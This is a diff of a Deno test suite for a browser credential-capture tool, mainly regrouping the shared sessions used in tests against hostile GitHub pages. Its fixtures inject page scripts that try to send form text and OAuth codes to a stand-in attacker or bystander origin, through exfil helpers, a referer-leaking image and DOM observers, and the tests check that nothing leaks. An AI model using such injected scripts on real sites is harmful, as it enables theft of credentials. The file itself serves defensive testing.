@@ -83,13 +83,27 @@ Deno.test("capture refusals of the runtime: no vault key, no template; both tain
 
 Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmation, callback and root pages, hostile conversion answers", async (t) => {
   await using h = await hostileCapture();
-  const { w, github, bystander, attacker, posts, attempt, exfil, TARGETS, formText } = h;
+  const { github, bystander, attacker, posts, attempt, exfil, TARGETS, formText } = h;
+  /**
+   * The session of the pages whose script changes only its own page's form or submission (a
+   * listener, an observer: no tab, no timer, nothing kept), or sends only to the attacker
+   * (whom nothing may ever reach, so what a page before left can fail no attempt wrongly):
+   * see {@link SharedSession}. The baseline opens it, clean.
+   */
+  const ownPage: SharedSession = {};
+  /**
+   * The session of the attempts whose page scripts aim at the allowed bystander, or whose
+   * vendor redirects elsewhere: each such capture ends by leaving for a blank page, or fails
+   * on a page with no script, so none leaves a sender behind for the next. The first one, the
+   * page that must send nothing to the bystander at all, opens it clean.
+   */
+  const elsewhere: SharedSession = {};
   // --- sanity and the tainted session -----------------------------------------------
 
   await t.step(
     "baseline: the hostile fixture, harmless, captures; a tainted session still captures and reports",
     async () => {
-      const a = await attempt("github_app");
+      const a = await attempt("github_app", {}, { shared: ownPage });
       assert.equal(a.out.isError, false, a.out.text);
       const b = await attempt("linear_oauth_app", {}, { client: a.c });
       assert.equal(b.out.isError, false, b.out.text);
@@ -115,12 +129,6 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
   );
 
   // --- the GitHub confirmation page -------------------------------------------------
-
-  /**
-   * The session of the pages whose script changes only its own page's form or submission (a
-   * listener, an observer: no tab, no timer, nothing kept): see {@link SharedSession}.
-   */
-  const ownPage: SharedSession = {};
 
   // No page script runs from the confirmation's submission on (the runtime turns scripts
   // off before it submits): a listener that would change the submission never fires, so the
@@ -181,9 +189,10 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
     "confirmation page aims its form at another tab in its markup (<base target>): refused before it is sent, nothing minted",
     async () => {
       const m = github.minted.length;
+      // No script, and refused before anything is sent: no tab is opened.
       const a = await attempt("github_app", {
         github: { confirmHead: `<base target="_blank">` },
-      });
+      }, { shared: ownPage });
       assert.equal(a.out.isError, true, a.out.text);
       assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
       assert.match(a.out.text, /another tab/);
@@ -218,7 +227,7 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
           rootHead: exfil([attacker.origin], formText, "root"),
           confirmHead: exfil([attacker.origin], formText, "confirm"),
         },
-      });
+      }, { shared: ownPage });
       // The attempt asserts the attacker saw nothing; the capture itself may still succeed.
       assert.match(a.out.text, /CAPTURE_(DONE|WRITE_REFUSED)/, a.out.text);
     },
@@ -229,7 +238,7 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
     async () => {
       const a = await attempt("github_app", {
         github: { confirmHead: exfil([bystander.origin], formText, "confirm") },
-      });
+      }, { shared: elsewhere });
       assert.deepEqual(
         a.toBystander.filter((r) => r.method !== "GET").map((r) => `${r.method} ${r.url}`),
         [],
@@ -258,21 +267,18 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
             JSON.stringify(`${bystander.origin}/cb-referer.png`)
           }; document.body.appendChild(i); });</script>`,
         },
-      });
+      }, { shared: elsewhere });
       // The attempt checked the bystander; say plainly what it got.
       assert.deepEqual(found(seenText(a.toBystander), [code]), []);
     },
   );
-
-  /** The callback refusals' session: the vendor's redirects, no page script. */
-  const callbackRefusals: SharedSession = {};
 
   await t.step(
     "the vendor redirects the callback to an allowed origin: CAPTURE_CALLBACK_REFUSED, the code never arrives there",
     async () => {
       const conversions = github.conversions;
       const a = await attempt("github_app", { github: { callbackOrigin: bystander.origin } }, {
-        shared: callbackRefusals,
+        shared: elsewhere,
       });
       assert.equal(a.out.isError, true, a.out.text);
       assert.match(a.out.text, /CAPTURE_CALLBACK_REFUSED/);
@@ -284,7 +290,7 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
     "the vendor redirects the callback to 127.0.0.2 (not allowed): refused, nothing arrives",
     async () => {
       const a = await attempt("github_app", { github: { callbackOrigin: attacker.origin } }, {
-        shared: callbackRefusals,
+        shared: elsewhere,
       });
       assert.equal(a.out.isError, true, a.out.text);
       assert.match(a.out.text, /CAPTURE_CALLBACK_REFUSED/);
@@ -296,14 +302,13 @@ Deno.test("browser_capture_credentials under attack (GitHub): hostile confirmati
   await t.step(
     "root page redirects to another origin before the manifest is posted: nothing posted anywhere",
     async () => {
-      // One session: each is the vendor's redirect, with no page script.
-      const redirects: SharedSession = {};
+      // Each is the vendor's redirect, with no page script.
       for (const target of [`${bystander.origin}/elsewhere`, `${attacker.origin}/elsewhere`]) {
         const before = posts();
         const manifests = github.requests.filter((r) => r.url.startsWith("/settings/apps/new"))
           .length;
         const a = await attempt("github_app", { github: { rootRedirect: target } }, {
-          shared: redirects,
+          shared: elsewhere,
         });
         assert.equal(a.out.isError, true, a.out.text);
         assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
@@ -367,7 +372,8 @@ new MutationObserver((l) => { for (const r of l) for (const n of r.addedNodes) i
 })();
 </script>`,
         },
-      });
+      }, { shared: elsewhere });
+      // Done: the capture left the page for a blank one, its observer and overrides with it.
       assert.equal(a.out.isError, false, a.out.text);
     },
   );
@@ -375,7 +381,9 @@ new MutationObserver((l) => { for (const r of l) for (const n of r.addedNodes) i
   await t.step(
     "the vendor's own page races the runtime for the conversion with a code its callback page kept: no minted value leaves",
     async () => {
-      // The race is the page's to win or lose: a few tries.
+      // The race is the page's to win or lose: a few tries, in one session, so a code one
+      // try's callback page kept is in the storage the next try's root page reads.
+      const race: SharedSession = {};
       for (let i = 0; i < 3; i++) {
         let failure: unknown;
         await attempt("github_app", {
@@ -409,9 +417,9 @@ new MutationObserver((l) => { for (const r of l) for (const n of r.addedNodes) i
 })();
 </script>`,
           },
-        }).catch((err) => failure = err);
+        }, { shared: race }).catch((err) => failure = err);
         // Whatever the outcome, the tainted session shows nothing of the page.
-        const c = w.clients.all.at(-1)!;
+        const c = race.client!;
         {
           for (
             const [tool, args] of [
